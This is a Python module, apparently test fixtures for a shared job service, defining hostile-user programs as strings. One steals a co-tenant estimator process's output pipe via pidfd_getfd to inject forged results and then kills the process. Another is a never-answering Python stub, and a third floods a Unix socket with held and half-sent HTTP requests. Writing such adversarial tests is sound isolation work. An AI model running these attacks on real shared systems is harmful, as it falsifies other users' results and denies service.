"""Programs of hostile users, run with their rights only: they attack through what the kernel lets any user do."""

from __future__ import annotations

FORGER = r"""
import base64, ctypes, os, signal, sys, time

SYS_PIDFD_GETFD = 438  # pidfd_getfd(2), the same number on every architecture
libc = ctypes.CDLL(None, use_errno=True)
lines = [base64.b64decode(line) for line in open(sys.argv[1])]
answered = set()


def estimators():
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and name not in answered and os.stat(f"/proc/{name}").st_uid == os.getuid():
                words = open(f"/proc/{name}/cmdline", "rb").read().split(b"\0")
                busy = open(f"/proc/{name}/task/{name}/children").read()
                if b"cotenant.estimators" in words and busy:
                    yield name
        except OSError:
            pass


while lines:
    for pid in list(estimators()):
        answered.add(pid)
        try:
            pidfd = os.pidfd_open(int(pid))
            pipe = libc.syscall(SYS_PIDFD_GETFD, pidfd, 1, 0)
            if pipe < 0:
                pipe = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)
            line = lines.pop(0) if lines else b"{}"
            os.set_blocking(pipe, True)
            try:
                rest = memoryview(line + b"\n")
                while rest:
                    rest = rest[os.write(pipe, rest):]
            finally:
                os.close(pipe)
                os.close(pidfd)
            os.kill(int(pid), signal.SIGKILL)
        except OSError as error:
            print(error, file=sys.stderr, flush=True)
    time.sleep(0.01)
"""
"""Writes the base64 lines of the file argv[1], one to each busy estimator process of its user, over its own pipe.

Then it kills the process, so that the next job gets another.
"""

HANGING_PYTHON = "#!/bin/sh\nexec sleep 1000\n"
"""As `./python` of a job: the job's Python, which the estimator starts as the user, and which never answers."""

FLOODER = r"""
import os, socket, sys, time

held = []
give_up_s = time.monotonic() + float(sys.argv[2])
while time.monotonic() < give_up_s:
    try:
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(1)
        connection.connect(sys.argv[1])
        if len(held) % 2:
            connection.send(b"GET /v1/jobs HTTP/1.1\r\nHost: x\r\nX-Half: ")
        held.append(connection)
    except OSError:
        connection.close()
        time.sleep(0.5)
    if len(held) >= 1000:
        for connection in held[:500]:
            connection.close()
        del held[:500]
    time.sleep(0.002)
print(len(held))
"""
"""Opens connections to the socket argv[1] for argv[2] seconds, every other one with half a request, and leaves them."""
